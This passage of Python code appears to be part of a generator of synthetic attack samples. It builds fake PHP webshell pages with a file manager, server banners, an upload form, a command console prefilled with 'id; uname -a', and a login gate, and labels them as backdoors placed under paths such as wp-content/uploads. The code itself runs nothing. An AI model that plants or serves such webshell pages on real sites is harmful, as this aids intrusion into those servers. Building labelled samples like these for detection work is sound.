        "filemanager": f"<table><tr><th>Name</th><th>Size</th><th>Perms</th></tr>{files}</table>",
        "uname_banner": f"<pre>Uname: {uname}\nUser: {rng.choice([33, 48, 1001])} ( www-data ) Group: 33\nPhp: {rng.choice(['5.6.40', '7.4.33', '8.1.2'])} Safe mode: OFF\nHDD: {rng.randint(10, 900)} GB Free: {rng.randint(1, 90)} GB\nCwd: {esc(cwd)} drwxr-xr-x</pre>",
        "upload_only": f'<form method="post" enctype="multipart/form-data"><input type="file" name="f"><input type="submit" value="Upload"></form><p>{esc(cwd)}</p>',
        "console": f'<form><input name="cmd" value="id; uname -a"><input type="submit" value="&gt;&gt;"></form><pre>uid=33(www-data) gid=33(www-data)\n{uname}</pre>',
        "sysinfo": f"<p>Server IP: {rng.randint(10, 250)}.{rng.randint(0, 255)}.{rng.randint(0, 255)}.{rng.randint(1, 254)} | Your IP: 10.0.0.{rng.randint(2, 254)}</p><p>Disable functions: NONE | cURL: ON | MySQL: ON | Perl: ON</p><p>Open basedir: NONE</p>",
        "login_gate": '<form method="post"><input type="password" name="pass"><input type="submit" value="&gt;"></form>',
    }
    menu = "[ Home ] [ Sec. Info ] [ Files ] [ Console ] [ Sql ] [ Php ] [ String tools ] [ Self remove ]"
    body = parts[style] + (f"<p>{menu}</p>" if rng.random() < 0.6 else "") + (parts["filemanager"] if style != "filemanager" and rng.random() < 0.5 else "")
    title = rng.choice(["", "Index of /", name, "403 Forbidden", "Mini Shell", "x"])
    html = f"<html><head><title>{esc(title)}</title></head><body bgcolor=\"#000000\" text=\"#00ff00\">{body}</body></html>"
    host = ctx.site or "example-site.org"
    url = f"https://{host}/{rng.choice(['wp-content/uploads/', 'images/', 'wp-includes/', '', 'tmp/'])}{name}"
    return _done(ctx, html, "backdoor", ("backdoor",), "webshell_page", url=url)


FAMILIES = tuple(sorted({fam for _, fam in ATTACKS.values()}))


def apply(name: str, ctx: AttackCtx) -> Injected:
    fn, _ = ATTACKS[name]
    return fn(ctx)
